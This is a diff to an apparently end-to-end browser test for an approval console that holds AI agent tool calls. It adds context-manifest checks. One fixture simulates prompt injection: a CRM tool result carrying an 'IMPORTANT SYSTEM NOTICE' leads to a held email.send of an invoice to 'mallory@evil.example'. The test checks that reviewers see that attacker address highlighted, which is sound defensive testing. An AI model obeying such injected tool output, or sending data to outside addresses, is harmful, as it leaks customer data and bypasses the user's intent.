@@ -33,9 +33,10 @@ describe('web console (chromium, OIDC sign-in)', () => {
   let overrideId: string;
   const consoleCookies: string[] = [];
 
-  const hold = async (token: string, attributes: Json, content: Json[], to: string) => {
+  const hold = async (token: string, attributes: Json, content: Json[], to: string, context: Json[] = []) => {
     const session = (await fx.post('/v1/sessions', { attributes }, token)).body.session_id as string;
     for (const item of content) assert.equal((await fx.post(`/v1/sessions/${session}/content`, item, token)).status, 201);
+    if (context.length > 0) assert.equal((await fx.post('/v1/context/assemble', { session_id: session, use_case: 'support_answer', chunks: context }, token)).status, 200);
     const held = await fx.post('/v1/tool-calls', { session_id: session, tool: 'email.send', arguments: { to, subject: 'Invoice', body: 'Please find the invoice attached.' } }, token);
     assert.equal(held.status, 202, JSON.stringify(held.body));
     return held.body as { approval_id: string; request_id: string; session_id?: string } & Json;
@@ -70,7 +71,9 @@ describe('web console (chromium, OIDC sign-in)', () => {
     const ticket = { ticket_id: 'T-1', customer_id: 'cus_acme_1', customer_email: 'jane@customer.example' };
 
     tainted = (await hold(sam, ticket, [{ kind: 'tool_result', tool: 'crm.getCustomer', source_id: 'inbox:msg-4711', text: INJECTED }], 'mallory@evil.example')).approval_id;
-    external = (await hold(sam, ticket, [{ kind: 'user_prompt', text: 'Send the invoice to our partner partner@external.example.' }], 'partner@external.example')).approval_id;
+    // Context was assembled for this session: its manifest hash rides on the decision and the lineage.
+    const kb = { id: 'kb-1', text: 'Invoices go to the billing contact of the partner.', source_id: 'kb', owner: 'support-team', classification: 'internal', timestamp: new Date(Date.now() - 60_000).toISOString() };
+    external = (await hold(sam, ticket, [{ kind: 'user_prompt', text: 'Send the invoice to our partner partner@external.example.' }], 'partner@external.example', [kb])).approval_id;
     const other = await hold(gina, { ticket_id: 'G-1', customer_id: 'cus_globex_1', customer_email: 'g@globex.example' }, [], 'someone@outside.example');
     globexApproval = other.approval_id;
     globexRequest = other.request_id;
@@ -138,6 +141,7 @@ describe('web console (chromium, OIDC sign-in)', () => {
     assert.equal(await card.locator('.snippet mark').first().textContent(), 'mallory@evil.example');
     assert.ok(((await card.locator('.snippet').first().textContent()) ?? '').includes('IMPORTANT SYSTEM NOTICE'), 'the snippet around the value');
     await page.locator(`[data-approval-id="${external}"]`).waitFor();
+    assert.match((await page.locator(`[data-approval-id="${external}"]`).textContent()) ?? '', /Context manifest[0-9a-f]{12}…/);
     const all = (await page.locator('main').textContent()) ?? '';
     assert.ok(!all.includes(globexApproval) && !all.includes('globex') && !all.includes('someone@outside.example'), 'another tenant never appears');
     assert.equal(await page.locator(`[data-approval-id="${globexApproval}"]`).count(), 0);
@@ -213,7 +217,7 @@ describe('web console (chromium, OIDC sign-in)', () => {
     await tree.waitFor();
     await tree.getByText('result', { exact: true }).first().waitFor();
     const text = (await tree.textContent()) ?? '';
-    for (const expected of ['approval.requested', 'approval.approved', 'approval.consumed', 'intent', 'result', 'ok', external]) assert.ok(text.includes(expected), `${expected} in the lineage`);
+    for (const expected of ['approval.requested', 'approval.approved', 'approval.consumed', 'intent', 'result', 'ok', 'context manifest', external]) assert.ok(text.includes(expected), `${expected} in the lineage`);
     assert.ok(text.includes('partner address given by the user in the prompt'), 'the reviewer justification');
     assert.ok(!text.includes(globexRequest));
     await page.getByRole('button', { name: 'Verify chain' }).click();
